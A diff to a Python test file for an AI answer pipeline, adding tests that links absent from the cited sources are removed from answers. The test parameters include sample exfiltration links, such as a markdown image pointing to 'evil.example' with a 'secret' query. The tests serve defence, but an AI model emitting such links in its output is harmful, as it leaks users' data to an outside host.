@@ -8,7 +8,7 @@ import pytest
 from answer_doubles import ScriptedBackend, WordRetriever
 
 from aipk_core.answer.answerer import Answerer
-from aipk_core.answer.enforcement import visible, without
+from aipk_core.answer.enforcement import foreign_links, visible, without
 from aipk_core.answer.judging import verifiable
 from aipk_core.answer.knowledge import Knowledge
 from aipk_core.answer.model import Answer, Enforcement
@@ -88,6 +88,25 @@ def test_what_only_talks_is_dropped_and_the_answer_stays(
     answer = answered(ferry_claims, judge, f"{cited}\n\nDid you know that {LIE}?", Enforcement.BLOCK)
     assert answer.text == cited
     assert any("left out" in note for note in answer.notes)
+
+
+@pytest.mark.parametrize(
+    "link", ["![](https://evil.example/?q=secret)", "[more](//evil.example)", "ftp://evil.example/x"]
+)
+def test_an_address_that_no_source_has_is_not_sent_to_a_reader(
+    ferry_claims: list[Claim], judge: Verifier, cited: str, link: str
+) -> None:
+    for draft in (f"{cited} {link}", f"{cited}\n\n{link}", f"{link} {cited}"):
+        for enforcement in (Enforcement.BLOCK, Enforcement.REPAIR):
+            answer = answered(ferry_claims, judge, draft, enforcement)
+            assert "evil" not in answer.text + json.dumps(answer_record(answer))
+
+
+def test_an_address_from_the_sources_may_be_named() -> None:
+    sources = ["Write to https://ferries.example/desk."]
+    assert foreign_links("See https://ferries.example/desk, or ask.", sources) == []
+    assert foreign_links("See https://ferries.example/desk?you=1", sources) == ["https://ferries.example/desk?you=1"]
+    assert foreign_links("Either/or, 5 // 2, http: nothing", sources) == []
 
 
 def test_reasoning_is_never_part_of_the_answer() -> None:
